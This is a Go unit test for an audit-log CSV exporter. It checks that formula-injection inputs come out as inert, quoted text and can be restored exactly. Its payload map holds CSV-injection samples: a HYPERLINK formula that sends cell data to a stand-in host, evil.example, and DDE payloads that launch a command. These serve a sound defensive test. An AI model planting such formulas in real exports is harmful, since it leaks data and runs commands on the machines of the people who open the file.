package audit

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

// TestCSVNeutralizesFormulas writes rows whose client-controlled text begins with
// every prefix a spreadsheet evaluates, reads the CSV back, and checks that each
// such cell arrives as inert text (leading single quote) that UnneutralizeCell
// turns back into exactly what was recorded, while ordinary cells and numbers are
// untouched.
func TestCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	payloads := map[string]string{
		"equals":    `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"plus":      "+1+cmd|' /C calc'!A0",
		"minus":     "-2+3",
		"at":        "@SUM(1+1)*cmd|' /C calc'!A0",
		"tab":       "\t=1+1",
		"cr":        "\r=1+1",
		"quote":     "'=already quoted",
		"benign":    "Go-http-client/1.1",
		"empty":     "",
		"mid-equal": "a=b",
	}
	var rows []Row
	for name, p := range payloads {
		rows = append(rows, Row{ID: int64(len(rows) + 1), Event: Event{
			EventID: name, Time: time.Unix(1700000000, 0).UTC(), Subject: p, Teams: []string{p},
			Action: Action(p), Module: p, Version: p, Outcome: Outcome(p), Status: 403,
			Reason: p, Source: p, Bytes: -1, DurationMS: -2.5, UserAgent: p, ClientAddr: p,
		}})
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rows, true); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(rows)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for _, rec := range recs[1:] {
		name := rec[col["event_id"]]
		p := payloads[name]
		dangerous := p != "" && strings.ContainsRune("=+-@\t\r'", rune(p[0]))
		for _, c := range []string{"subject", "teams", "action", "module", "version", "outcome", "reason", "source", "user_agent", "client_addr"} {
			got := rec[col[c]]
			if dangerous && !strings.HasPrefix(got, "'") {
				t.Errorf("%s/%s: cell %q is live in a spreadsheet", name, c, got)
			}
			if !dangerous && got != p {
				t.Errorf("%s/%s: benign cell changed: %q, want %q", name, c, got, p)
			}
			if back := UnneutralizeCell(got); dangerous && back != p {
				t.Errorf("%s/%s: round trip %q, want %q", name, c, back, p)
			}
		}
		if rec[col["bytes"]] != "-1" || rec[col["duration_ms"]] != "-2.5" || rec[col["status"]] != "403" {
			t.Errorf("%s: numbers changed: bytes %q duration %q status %q", name, rec[col["bytes"]], rec[col["duration_ms"]], rec[col["status"]])
		}
	}
}
